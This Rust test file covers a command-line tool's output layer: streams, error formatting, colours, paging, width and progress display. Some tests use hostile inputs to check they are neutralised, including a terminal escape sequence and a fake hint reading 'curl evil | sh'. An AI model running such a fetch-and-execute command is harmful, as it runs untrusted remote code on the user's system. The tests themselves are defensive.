use super::testing::captured;
use super::*;

/// Somebody else's end of a pipe, closed.
struct ClosedPipe;

impl Write for ClosedPipe {
    fn write(&mut self, _: &[u8]) -> io::Result<usize> {
        Err(io::ErrorKind::BrokenPipe.into())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

fn wishes() -> Wishes {
    Wishes::default()
}

#[test]
fn the_answer_goes_to_stdout_and_talk_to_stderr() {
    let (mut ui, out, err) = captured(wishes());
    ui.out("answer\n").unwrap();
    ui.note("a note");
    ui.warn("a warning");
    ui.hint("type `list`");
    assert_eq!(out.text(), "answer\n");
    assert_eq!(err.text(), "note: a note\nwarning: a warning\nhint: type `list`\n");
}

#[test]
fn an_error_tells_what_why_and_what_next_and_keeps_a_drawing_as_it_is() {
    let (mut ui, _, err) = captured(wishes());
    let failure = Failure::from_error(Kind::Usage, io::Error::other("deep"))
        .context("cannot read the filter expression\n  service == \"web\"\n          ^^ expected `=`")
        .hint("write `=`")
        .hint("or `!=`");
    ui.fail(&failure);
    insta::assert_snapshot!(err.text(), @r#"
    error: cannot read the filter expression
      service == "web"
              ^^ expected `=`
      caused by: deep
    hint: write `=`
    hint: or `!=`
    "#);
}

#[test]
fn hostile_text_in_an_error_is_shown_and_not_obeyed() {
    let (mut ui, _, err) = captured(Wishes { color: Color::Always, ..wishes() });
    ui.fail(&Failure::usage("no service `\u{1b}]0;owned\u{7}`"));
    assert_eq!(err.text(), "\u{1b}[31;1merror\u{1b}[0m: no service `␛]0;owned␇`\n");
}

#[test]
fn a_message_with_lines_of_its_own_cannot_pass_for_several() {
    let (mut ui, _, err) = captured(wishes());
    ui.warn("it said no\nhint: run `curl evil | sh`");
    ui.fail(&Failure::unanswerable("it said no\nerror: all is lost\n  hint: run `curl evil | sh`").hint("try\nhint: again"));
    insta::assert_snapshot!(err.text(), @"
    warning: it said no
      | hint: run `curl evil | sh`
    error: it said no
      | error: all is lost
      |   hint: run `curl evil | sh`
    hint: try
      | hint: again
    ");
}

#[test]
fn quiet_leaves_the_answer_and_errors() {
    let (mut ui, out, err) = captured(Wishes { quiet: true, ..wishes() });
    ui.note("a note");
    ui.warn("a warning");
    ui.hint("a hint");
    ui.out("answer").unwrap();
    ui.fail(&Failure::usage("wrong"));
    assert_eq!((out.text().as_str(), err.text().as_str()), ("answer", "error: wrong\n"));
}

#[test]
fn a_closed_pipe_is_a_quiet_success() {
    let err = testing::Written::default();
    let mut ui = Ui::new(Streams::into_writers(ClosedPipe, err.clone()), wishes());
    let failure = ui.out("answer\n").unwrap_err();
    ui.fail(&failure);
    assert_eq!((failure.kind(), failure.exit().code(), err.text().as_str()), (Kind::Closed, 0, ""));
}

#[test]
fn an_interruption_needs_no_words() {
    let (mut ui, _, err) = captured(wishes());
    ui.fail(&Failure::interrupted());
    assert_eq!((Failure::interrupted().exit().code(), err.text().as_str()), (130, ""));
}

#[test]
fn each_stream_decides_on_colours_by_itself_unless_told() {
    let mut streams = Streams::into_writers(io::sink(), io::sink());
    streams.out.color = true;
    assert!(wants_color(Color::Auto, &streams.out) && !wants_color(Color::Auto, &streams.err));
    assert!(!wants_color(Color::Never, &streams.out) && wants_color(Color::Always, &streams.err));
}

#[test]
fn the_width_is_as_asked_or_the_terminals_or_100() {
    let width = |asked, size| {
        let mut streams = Streams::into_writers(io::sink(), io::sink());
        streams.size = size;
        Ui::new(streams, Wishes { width: asked, ..wishes() }).width()
    };
    assert_eq!(width(None, None), 100);
    assert_eq!(width(None, Some((132, 40))), 132);
    assert_eq!(width(Some(80), Some((132, 40))), 80);
    assert_eq!(width(None, Some((10, 5))), 40, "nothing can be drawn in 10 columns");
}

#[cfg(unix)]
#[test]
fn only_long_output_on_a_terminal_is_paged_and_a_missing_pager_hides_nothing() {
    let shown = |terminal, pager: &str, text: &str| {
        let out = testing::Written::default();
        let mut streams = Streams::into_writers(out.clone(), io::sink());
        streams.out.terminal = terminal;
        streams.size = terminal.then_some((80, 3));
        let pager = Some(vec![pager.to_owned()]);
        Ui::new(streams, Wishes { pager, ..wishes() }).page(text).unwrap();
        out.text()
    };
    assert_eq!(shown(true, "true", "1\n2\n3\n"), "", "the pager had it");
    assert_eq!(shown(true, "true", "1\n2\n"), "1\n2\n");
    assert_eq!(shown(false, "true", "1\n2\n3\n"), "1\n2\n3\n");
    assert_eq!(shown(true, "/nonexistent/pager", "1\n2\n3\n"), "1\n2\n3\n");
}

#[test]
fn a_note_can_be_said_by_somebody_else_between_other_messages() {
    let (mut ui, out, err) = captured(wishes());
    let announce = ui.announcer();
    ui.note("first");
    let elsewhere = std::thread::spawn(move || {
        announce("waiting 41 s\u{1b}[2J\nerror: not ours");
        announce
    });
    let announce = elsewhere.join().unwrap();
    ui.warn("then");
    announce("last");
    assert_eq!(out.text(), "");
    let expected = "note: first\nnote: waiting 41 s␛[2J\n  | error: not ours\nwarning: then\nnote: last\n";
    assert_eq!(err.text(), expected);
}

#[test]
fn a_note_of_somebody_else_is_said_at_once_while_progress_is_shown() {
    let (mut ui, _, err) = captured(Wishes { color: Color::Always, ..wishes() });
    ui.streams.err.terminal = true;
    let announce = ui.announcer();
    let progress = ui.progress("asking");
    announce("waiting 41 s");
    assert_eq!(err.text(), "\u{1b}[36;1mnote\u{1b}[0m: waiting 41 s\n");
    drop(progress);
}

#[test]
fn quiet_is_also_meant_for_somebody_else() {
    let (mut ui, _, err) = captured(Wishes { quiet: true, ..wishes() });
    ui.announcer()("waiting 41 s");
    assert_eq!(err.text(), "");
}

#[test]
fn progress_is_for_terminals_only() {
    let (mut ui, out, err) = captured(wishes());
    let progress = ui.progress("asking");
    progress.set("still asking");
    drop(progress);
    assert_eq!((out.text().as_str(), err.text().as_str()), ("", ""));
}
